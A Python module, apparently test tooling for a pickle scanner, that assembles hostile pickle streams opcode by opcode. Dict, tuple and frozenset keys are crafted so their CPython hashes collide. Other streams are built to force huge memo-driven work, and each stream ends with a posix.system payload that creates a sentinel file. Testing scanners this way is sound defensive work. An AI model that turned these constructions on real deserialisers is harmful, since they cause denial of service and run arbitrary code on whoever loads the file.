"""Dict keys crafted to share one hash value (issue 8: hash collisions).

CPython's hashes of numbers, of tuples and of frozensets are not randomized
and can be inverted: distinct keys can be made to share one hash, and a dict
of n such keys takes time quadratic in n to build. This module crafts them
without ever building such a dict (the streams are assembled opcode by
opcode, with :mod:`hostile`'s assembler):

* ``complex(r, i)`` (and ``numpy.complex128``): ``hash(r) + 1000003 *
  hash(i)``, so ``complex(T - 1000003 * k, k)`` all hash to ``T``;
* tuples ``(numpy.float64(a), b)``: the tuple hash (xxHash-like, 64-bit)
  inverted for its last item, keeping the ``b`` that are ints below 2**61
  (their own hash);
* frozensets ``{a, b}``: the set hash XORs shuffled item hashes, so ``b``
  with ``shuffle(b) == shuffle(a) ^ C`` gives the same hash for every ``a``.

:func:`dict_stream` wraps the keys in a dict followed by a payload that
creates a sentinel file (``posix.system``): plain ``pickle.loads`` spends
minutes on the dict, then runs the payload.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from hostile import (
    EMPTY_DICT,
    MARK,
    NONE,
    REDUCE,
    TUPLE2,
    call,
    glob,
    intop,
    shell_cmd,
    stream,
    ustr,
)

__all__ = [
    "complex128_keys",
    "complex_keys",
    "dict_stream",
    "float_tuple_keys",
    "frozenset_keys",
    "longdouble_keys",
    "ordered_dict_pairs",
    "shared_frozenset_keys",
    "shared_text_arguments",
]

_M64 = (1 << 64) - 1
_P1, _P2, _P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
_T = 2**52  # the hash every crafted complex shares
_SCALAR = glob("numpy.core.multiarray", "scalar")
_DTYPE = glob("numpy", "dtype")
_FLAGS = b"\x89\x88"  # False, True


def _dtype(code: str, endian: str) -> bytes:
    state = MARK + intop(3) + ustr(endian) + NONE * 3 + intop(-1) * 2 + intop(0)
    return call(_DTYPE, ustr(code), _FLAGS) + state + b"tb"


def _scalar(memo: int, data: bytes) -> bytes:
    """``scalar(<dtype at memo index `memo`>, data)`` (scalar global at 0)."""
    return (
        b"h\x00"
        + b"h"
        + bytes([memo])
        + b"C"
        + bytes([len(data)])
        + data
        + TUPLE2
        + REDUCE
    )


def _prelude() -> bytes:
    """The scalar global (memo 0), a complex128 dtype (1), a float64 (2)
    and a long double (3) dtype, popped (kept in the memo)."""
    return (
        _SCALAR
        + b"q\x00"
        + _dtype("c16", "<")
        + b"q\x01"
        + _dtype("f8", "<")
        + b"q\x02"
        + _dtype("f16", "<")
        + b"q\x030"
        + b"00"
    )


def complex_keys(n: int) -> Iterator[bytes]:
    """``builtins.complex`` keys, all hashing to 2**52."""
    fn = glob("builtins", "complex")
    for k in range(1, n + 1):
        real = struct.pack(">d", float(_T - 1000003 * k))
        imag = struct.pack(">d", float(k))
        yield fn + MARK + b"G" + real + b"G" + imag + b"t" + REDUCE


def complex128_keys(n: int) -> Iterator[bytes]:
    """``numpy.complex128`` keys (scalar REDUCEs), all hashing to 2**52."""
    for k in range(1, n + 1):
        yield _scalar(1, struct.pack("<dd", float(_T - 1000003 * k), float(k)))


def _rotl(x: int) -> int:
    return ((x << 31) | (x >> 33)) & _M64


def float_tuple_keys(n: int, target: int = 123456789) -> Iterator[bytes]:
    """``(numpy.float64(a), b)`` tuple keys, all hashing to `target`."""
    p1_inv, p2_inv = pow(_P1, -1, 1 << 64), pow(_P2, -1, 1 << 64)
    last = (target - (2 ^ (_P5 ^ 3527539))) & _M64
    before = ((last * p1_inv) & _M64) >> 31 | ((last * p1_inv) << 33) & _M64
    a = made = 0
    while made < n:
        a += 1
        acc = (_rotl((_P5 + a * _P2) & _M64) * _P1) & _M64
        b = ((before - acc) * p2_inv) & _M64
        if b < 2**61 - 1:
            made += 1
            yield MARK + _scalar(2, struct.pack("<d", float(a))) + intop(b) + b"t"


def _shuffle(h: int) -> int:
    return (((h ^ 89869747) ^ (h << 16)) * 3644798167) & _M64


def _unshuffle(y: int) -> int:
    w = ((y * pow(3644798167, -1, 1 << 64)) & _M64) ^ 89869747
    h = w
    for _ in range(4):
        h = w ^ ((h << 16) & _M64)
    return h


def frozenset_keys(n: int, c: int = 0x1234567) -> Iterator[bytes]:
    """``frozenset({a, b})`` keys (``FROZENSET``), all of one hash."""
    a = made = 0
    while made < n:
        a += 1
        b = _unshuffle(_shuffle(a) ^ c)
        if a < b < 2**61 - 1:
            made += 1
            yield MARK + intop(a) + intop(b) + b"\x91"


def longdouble_keys(n: int) -> Iterator[bytes]:
    """Distinct ``numpy.longdouble`` keys (a hash safenpz does not compute)."""
    for k in range(n):
        yield _scalar(3, struct.pack("<d", float(k)) + bytes(8))


def ordered_dict_pairs(sentinel: str, n: int) -> bytes:
    """``OrderedDict([(key, None), ...])`` of colliding complex keys: the
    pairs as the argument of one REDUCE, then the payload."""
    pairs = b"".join(MARK + key + NONE + b"t" for key in complex_keys(n))
    body = (
        glob("collections", "OrderedDict")
        + MARK
        + b"]"
        + MARK
        + pairs
        + b"e"
        + b"t"
        + REDUCE
    )
    return stream(body + _payload(sentinel) + TUPLE2)


def shared_text_arguments(sentinel: str, uses: int = 500_000) -> bytes:
    """One 60 KB string, memoised, given to ``_codecs.encode`` `uses` times
    (30 GB of bytes to make; the scanner reads each use), then the payload."""
    body = (
        glob("_codecs", "encode")
        + b"q\x00"
        + ustr("x" * 60_000)
        + b"q\x01"
        + ustr("latin1")
        + b"q\x020"
        + b"0"
        + b"]"
        + MARK
        + b"h\x00h\x01h\x02\x86R" * uses
        + b"e"
    )
    return stream(body + _payload(sentinel) + TUPLE2)


def shared_frozenset_keys(dicts: int = 200_000, items: int = 8000) -> bytes:
    """One frozenset of `items` ints, memoised, the key of `dicts` dicts
    (its hash is computed once, by the scanner as by CPython)."""
    frozen = MARK + b"".join(intop(70_000 + i) for i in range(items)) + b"\x91q\x00"
    body = frozen + b"0]" + MARK + b"}(h\x00Nu" * dicts + b"e"
    return stream(body, 4)


def _payload(sentinel: str) -> bytes:
    return call(glob("posix", "system"), ustr(shell_cmd(sentinel)))


def dict_stream(keys: Iterator[bytes], sentinel: str) -> bytes:
    """``({key: None, ...}, posix.system('touch <sentinel>'))``: the keys in
    ``SETITEMS`` batches of 1000, as picklers write dicts."""
    out = [_prelude(), EMPTY_DICT]
    batch: list[bytes] = []
    for key in keys:
        batch.append(key + NONE)
        if len(batch) == 1000:
            out.append(MARK + b"".join(batch) + b"u")
            batch = []
    if batch:
        out.append(MARK + b"".join(batch) + b"u")
    return stream(b"".join(out) + _payload(sentinel) + TUPLE2, 4)
